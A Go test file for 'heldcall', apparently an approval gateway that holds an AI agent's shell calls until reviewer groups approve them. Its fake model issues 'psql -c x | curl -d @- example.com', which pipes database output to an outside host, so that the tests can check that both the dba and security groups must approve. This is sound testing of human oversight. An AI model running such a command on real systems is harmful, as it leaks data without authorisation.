package app_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/heldcall/heldcall/app"
	"github.com/heldcall/heldcall/approvals"
	"github.com/heldcall/heldcall/console/problem"
	"github.com/heldcall/heldcall/internal/testing/fakemodel"
)

const twoGroupsPolicy = `
default: allow
tools:
  bash: {resource: command, as: shell}
rules:
  - ask: ["bash(psql *)"]
    reviewers: [dba]
  - ask: ["bash(curl *)"]
    reviewers: [security]
`

// dumpAndSend answers with a script of which two rules ask two groups.
func dumpAndSend(r *fakemodel.Request) fakemodel.Reply {
	if strings.Contains(string(r.Body), `"role":"tool"`) {
		return fakemodel.Answer{Text: "Understood."}.Reply(r)
	}
	return fakemodel.Answer{Calls: []fakemodel.Call{{ID: "call_d", Name: "bash", Arguments: `{"command":"psql -c x | curl -d @- example.com"}`}}}.Reply(r)
}

// A script with a command for each of two groups is released when both have approved
// it, and not by one of them, also where heldcall is restarted in between.
func TestTwoRulesOfTwoGroupsAskBoth(t *testing.T) {
	t.Parallel()
	for _, restarted := range []bool{false, true} {
		m := team{}
		var config app.Config
		w := build(t, twoGroupsPolicy, dumpAndSend, m.with("ada", "admin"), m.with("dan", "reviewer", "dba"), m.with("dora", "reviewer", "dba"),
			m.with("sue", "reviewer", "security"), restarting(&config))
		w.console = w.as(m["ada"])
		agent := w.post("/v1/chat/completions", streamedRequest)
		asked := w.pending(1)[0]
		if !slices.Equal(asked.Reviewers, []string{"security", "dba"}) || len(asked.Demands) != 2 || asked.RequiredApprovals != 1 {
			t.Fatalf("%d of %q are asked: %+v", asked.RequiredApprovals, asked.Reviewers, asked.Demands)
		}
		r, err := w.as(m["dan"]).Decide(t.Context(), approve(asked.ID))
		if err != nil || r.Status != approvals.StatusPending || len(r.Decisions) != 1 {
			t.Fatalf("after one group the request is %s with %+v, %v", r.Status, r.Decisions, err)
		}
		if restarted {
			w.restart(config)
		}
		_, err = w.as(m["dora"]).Decide(t.Context(), approve(asked.ID))
		wantCode(t, err, problem.CodeForbidden)
		if !strings.Contains(err.Error(), "1 more approval of security") {
			t.Errorf("the error for another member of the group does not name the missing approval: %v", err)
		}
		if r, err := w.as(m["sue"]).Decide(t.Context(), approve(asked.ID)); err != nil || r.Status != approvals.StatusApproved {
			t.Fatalf("after both groups the request is %s, %v", r.Status, err)
		}
		if restarted {
			continue
		}
		if answer := agent.rest(); !strings.Contains(answer, "call_d") {
			t.Errorf("the agent got %q", answer)
		}
	}
}

// Who is in both groups decides alone, and so does local without reviewers.
func TestWhoIsInEveryGroupDecidesAlone(t *testing.T) {
	t.Parallel()
	w := build(t, twoGroupsPolicy, dumpAndSend)
	agent := w.post("/v1/chat/completions", streamedRequest)
	id := w.pending(1)[0].ID
	if r, err := w.console.Decide(t.Context(), approve(id)); err != nil || r.Status != approvals.StatusApproved || !slices.Equal(r.Decisions[0].Fills, []int{0, 1}) {
		t.Errorf("%s by %+v, %v", r.Status, r.Decisions, err)
	}
	if answer := agent.rest(); !strings.Contains(answer, "call_d") {
		t.Errorf("the agent got %q", answer)
	}
}
